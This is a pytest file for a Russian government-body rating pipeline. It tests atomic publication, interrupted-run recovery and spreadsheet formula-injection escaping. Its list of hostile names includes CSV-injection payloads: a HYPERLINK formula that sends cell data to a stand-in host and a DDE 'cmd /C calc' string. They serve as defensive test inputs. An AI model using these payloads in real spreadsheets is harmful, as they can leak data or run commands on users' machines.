"""Publication of a rating (DuckDB and PostgreSQL, local and S3 lakes): one atomic step whose
published files are never rewritten, leftovers of interrupted runs cleaned, and spreadsheets whose
cells cannot execute (OWASP's CSV-injection rule).

A small region is written straight into ``core.dim_org`` and ``mart.rating_base`` and rated under
``samara-2022`` (the bodies are ministries, one group «ОИВ», rated with an official page)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from gospublic.infra.lake import Lake, LocalLake
from gospublic.infra.migrations import migrate
from gospublic.infra.warehouse import Warehouse
from tests.rating_inputs import record_complete_inputs

MONTH = "2025-11"
METHODOLOGY = "samara-2022"
BASE = f"publish/rating/{MONTH}/{METHODOLOGY}"
FROZEN = datetime(2025, 12, 3, 3, 0, 0, tzinfo=UTC)  # the publication clock of the tests
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAMES = [
    '=HYPERLINK("http://x"&A1,"Подробнее")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+7 (800) приёмная",
    "-Департамент",
    "\tТабуляция",
    "\rВозврат каретки",
]


def seed_region(warehouse: Warehouse, months: tuple[date, ...] = (date(2025, 11, 1),), *,
                names: list[str] | None = None, bodies: int = 8) -> None:  # fmt: skip
    """``bodies`` bodies (the first without a page: not rated) with rating inputs for ``months``;
    a later month reverses the order of the earlier one, so scores and places fall (negative
    changes). Each month's inputs are complete for the publication gate (tests/rating_inputs.py)."""
    migrate(warehouse)
    names = names or []
    with warehouse.begin() as conn:
        import sqlalchemy as sa

        for n in range(bodies):
            name = names[n] if n < len(names) else f"Орган {n}"
            conn.execute(
                sa.text(
                    "INSERT INTO core.dim_org (org_id, version, name, kind, region_code, region_name, "
                    "timezone, valid_from, is_current, load_id) VALUES (:o, 1, :name, 'ОИВ', '58', "
                    "'Пензенская область', 'Europe/Moscow', DATE '2020-01-01', TRUE, 'test')"
                ),
                {"o": f"org-{n:02d}", "name": name},
            )
        for index, month in enumerate(months):
            for n in range(bodies):
                k = n if index % 2 == 0 else bodies - n
                conn.execute(
                    sa.text(
                        "INSERT INTO mart.rating_base (org_id, month, region_code, kind, incidents, "
                        "incidents_im, incidents_pos, answers_assessed, pages, posts_per_week, "
                        "photo_video_share, engagement_rate_pct, replied_share, compliance_score) VALUES "
                        "(:o, :m, '58', 'ОИВ', 10, 5, 5, 4, :pages, :ppw, :pv, :er, :rs, :cs)"
                    ),
                    {
                        "o": f"org-{n:02d}", "m": month, "pages": 0 if n == 0 else 1, "ppw": 0.5 * k,
                        "pv": 0.1 * k, "er": 0.7 * k, "rs": None if k == 3 else 0.12 * k, "cs": 40 + 7 * k,
                    },
                )  # fmt: skip
    for month in months:
        record_complete_inputs(warehouse, month)


def change_inputs(warehouse: Warehouse, share: float = 0.05) -> None:
    warehouse.execute(
        "UPDATE mart.rating_base SET photo_video_share = :v "
        "WHERE org_id = 'org-05' AND month = DATE '2025-11-01'",
        {"v": share},
    )


def restore_inputs(warehouse: Warehouse) -> None:
    change_inputs(warehouse, 0.1 * 5)


def lake_files(lake: Lake, prefix: str = "publish/") -> dict[str, str]:
    """Every object under ``prefix`` with its SHA-256 — on a local lake also temporary files, which
    ``Lake.list`` hides."""
    if isinstance(lake, LocalLake):
        root = lake.root / prefix
        paths = [p for p in root.rglob("*") if p.is_file()] if root.exists() else []
        return {
            p.relative_to(lake.root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths
        }
    return {obj.key: hashlib.sha256(lake.get_bytes(obj.key)).hexdigest() for obj in lake.list(prefix)}


def snapshots(warehouse: Warehouse) -> list[dict]:
    return warehouse.query(
        "SELECT snapshot_id, revision, status, publish_path FROM mart.rating_snapshot "
        "WHERE methodology_id = :m ORDER BY month, revision",
        {"m": METHODOLOGY},
    )


@pytest.fixture(autouse=True)
def no_pdf(monkeypatch: pytest.MonkeyPatch) -> None:
    """The protocol's tests publish often: PDFs (a browser each time) are tested in test_publication."""
    monkeypatch.setenv("GOSPUBLIC_PUBLICATION_PDF", "off")


@pytest.fixture
def frozen_clock(monkeypatch: pytest.MonkeyPatch) -> datetime:
    monkeypatch.setattr("gospublic.rating.publish.utc_now", lambda: FROZEN, raising=False)
    return FROZEN


def rate(month: str = MONTH, **options):
    from gospublic.rating.steps import rate as rate_month

    return rate_month(month, [METHODOLOGY], **options)


# -- finding 4: spreadsheets that cannot execute ---------------------------------------------------


def test_spreadsheet_text_is_escaped_and_numbers_stay_numbers() -> None:
    from transforms.spreadsheet import spreadsheet_value

    for text in HOSTILE_NAMES:
        assert spreadsheet_value(text) == "'" + text
    assert spreadsheet_value("Министерство =1") == "Министерство =1"
    assert spreadsheet_value("") == ""
    assert spreadsheet_value(-3.5) == -3.5 and spreadsheet_value(-2) == -2
    assert spreadsheet_value(None) is None


def test_published_spreadsheets_carry_no_formula(warehouse: Warehouse, lake: Lake, frozen_clock) -> None:
    seed_region(warehouse, (date(2025, 10, 1), date(2025, 11, 1)), names=["Без страницы", *HOSTILE_NAMES])
    rate("2025-10")
    (result,) = rate(MONTH)
    root = result["path"]
    hostile = set(HOSTILE_NAMES)

    workbook = load_workbook(io.BytesIO(lake.get_bytes(f"{root}/rating.xlsx")))
    names, negatives, scores = set(), [], []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), (sheet.title, cell.coordinate)
    for row in workbook.worksheets[0].iter_rows(min_row=3, values_only=True):
        names.add(row[1])
        if row[2] is not None:
            scores.append(row[2])
        negatives += [value for value in (row[4], row[5]) if isinstance(value, int | float) and value < 0]
    assert {"'" + name for name in hostile} <= names
    assert scores and all(isinstance(score, int | float) for score in scores)  # numbers stay numbers
    assert negatives, "the month's falls are negative numbers, not text"

    text = lake.get_bytes(f"{root}/rating.csv").decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {"'" + name for name in hostile} <= {row["name"] for row in rows}
    falls = 0
    for row in rows:
        for column, value in row.items():
            if value.startswith(FORMULA_STARTS):
                float(value)  # only numbers may start with a sign
                assert f",{value}," in text or text.rstrip().endswith(f",{value}"), (column, value)
                falls += 1
    assert falls, "negative changes are written as bare numbers"

    # Machines read JSON: the names there are the registry's, unaltered; the page escapes HTML.
    payload = json.loads(lake.get_bytes(f"{root}/rating.json"))
    assert hostile <= {row["name"] for row in payload["rows"]}
    assert '=HYPERLINK("http://x"' not in lake.get_bytes(f"{root}/rating.html").decode("utf-8")


# -- finding 2: publication as one atomic step -----------------------------------------------------


class Interrupted(BaseException):
    """Stands in for a crash (kill -9 is tried for real in tests/reliability)."""


def test_interrupted_publication_is_completed_never_rewritten(
    warehouse: Warehouse, lake: Lake, frozen_clock, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The run dies writing ``latest.json``; more data arrives; the re-run without republish must
    finish the first publication and refuse the change — not rewrite revision 1 in place."""
    from gospublic.rating.snapshot import SnapshotChangedError

    seed_region(warehouse)
    put = type(lake).put_stream

    def dying_put(self, key, stream):
        if key.endswith("latest.json"):
            raise Interrupted(key)
        return put(self, key, stream)

    monkeypatch.setattr(type(lake), "put_stream", dying_put)
    with pytest.raises(Interrupted):
        rate()
    monkeypatch.setattr(type(lake), "put_stream", put)
    written = {k: v for k, v in lake_files(lake).items() if "/rev-1/" in k}
    if written:  # whatever is visible of revision 1 is published
        assert [s["status"] for s in snapshots(warehouse)] == ["published"]

    change_inputs(warehouse)
    with pytest.raises(SnapshotChangedError, match="republish"):
        rate()
    files = lake_files(lake)
    assert {k: v for k, v in files.items() if "/rev-1/" in k and k in written} == written
    assert [s["status"] for s in snapshots(warehouse)] == ["published"]
    latest = json.loads(lake.get_bytes(f"{BASE}/latest.json"))
    assert latest["path"] == f"{BASE}/rev-1" == snapshots(warehouse)[0]["publish_path"]
    assert not [k for k in files if "staging" in k or "/.tmp-" in k]

    (result,) = rate(republish=True)
    assert result["revision"] == 2 and result["status"] == "published"
    assert {k: v for k, v in lake_files(lake).items() if "/rev-1/" in k} == {
        k: v for k, v in files.items() if "/rev-1/" in k
    }


def test_a_month_announced_but_left_a_draft_is_never_rewritten(
    warehouse: Warehouse, lake: Lake, frozen_clock
) -> None:
    """The issue's state: killed between ``latest.json`` and the warehouse's mark (as the earlier
    version wrote them), ``latest.json`` → rev-1 while the snapshot says draft. More data arrives;
    the run without republish must raise the change error and leave rev-1 as it is."""
    from gospublic.rating.snapshot import SnapshotChangedError

    seed_region(warehouse)
    rate()
    warehouse.execute(
        "UPDATE mart.rating_snapshot SET status = 'draft', published_at = NULL, publish_path = NULL"
    )
    lake.delete(f"{BASE}/rev-1/manifest.json")  # the earlier version wrote none
    before = lake_files(lake)

    change_inputs(warehouse)
    with pytest.raises(SnapshotChangedError, match="republish"):
        rate()
    after = lake_files(lake)
    assert {k: v for k, v in after.items() if k in before} == before  # no file rewritten
    (snapshot,) = snapshots(warehouse)
    assert snapshot["status"] == "published" and snapshot["publish_path"] == f"{BASE}/rev-1"
    manifest = json.loads(lake.get_bytes(f"{BASE}/rev-1/manifest.json"))
    assert {f"{BASE}/rev-1/{name}": digest for name, digest in manifest["files"].items()} == {
        k: v for k, v in before.items() if "/rev-1/" in k
    }


def test_a_published_file_is_never_overwritten(warehouse: Warehouse, lake: Lake, frozen_clock) -> None:
    """A file already at a revision's place (say, left by an earlier version's interrupted run) is
    refused with its key, not replaced."""
    from gospublic.rating.publish import PublicationConflictError

    seed_region(warehouse)
    lake.put_bytes(f"{BASE}/rev-1/rating.csv", b"published before\n")
    with pytest.raises(PublicationConflictError, match=r"rev-1/rating\.csv"):
        rate()
    assert lake.get_bytes(f"{BASE}/rev-1/rating.csv") == b"published before\n"
    assert not lake.exists(f"{BASE}/latest.json")
    assert [s["status"] for s in snapshots(warehouse)] == ["draft"]


def test_leftovers_of_interrupted_runs_are_cleaned(warehouse: Warehouse, lake: Lake, frozen_clock) -> None:
    seed_region(warehouse)
    stale = [
        f"{BASE}/_staging/rev-1-0123456789ab/rating.csv",
        f"{BASE}/_staging/rev-1-0123456789ab/cards/org-01.html",
    ]
    for key in stale:
        lake.put_bytes(key, b"half-written")
    if isinstance(lake, LocalLake):  # what a kill inside a local write leaves
        for folder in (f"{BASE}/rev-1/cards", BASE):
            (lake.root / folder).mkdir(parents=True, exist_ok=True)
            (lake.root / folder / ".tmp-orphan").write_bytes(b"half")
    rate()
    files = lake_files(lake)
    assert not [k for k in files if "_staging" in k or ".tmp-" in k], sorted(files)
    assert f"{BASE}/rev-1/rating.csv" in files and f"{BASE}/rev-1/manifest.json" in files
    manifest = json.loads(lake.get_bytes(f"{BASE}/rev-1/manifest.json"))
    for name, digest in manifest["files"].items():
        assert files[f"{BASE}/rev-1/{name}"] == digest


def test_publication_is_reproducible(warehouse: Warehouse, frozen_clock) -> None:
    """The same snapshot at the same publication time gives the same bytes (so a clean run and a
    recovered one can be compared by checksums)."""
    from gospublic.rating.publish import render_files

    seed_region(warehouse)
    rate(publish=False)
    from gospublic.rating.snapshot import methodologies

    (row,) = snapshots(warehouse)
    from gospublic.rating.snapshot import _snapshot

    snapshot = _snapshot(
        warehouse.query(
            "SELECT * FROM mart.rating_snapshot WHERE snapshot_id = :s", {"s": row["snapshot_id"]}
        )[0],
        created=False,
    )
    first = render_files(warehouse, snapshot, methodologies()[METHODOLOGY], FROZEN)
    second = render_files(warehouse, snapshot, methodologies()[METHODOLOGY], FROZEN)
    assert first == second and "rating.xlsx" in first
    import zipfile

    parts = zipfile.ZipFile(io.BytesIO(first["rating.xlsx"])).infolist()  # no wall clock inside
    assert {part.date_time for part in parts} == {FROZEN.timetuple()[:6]}
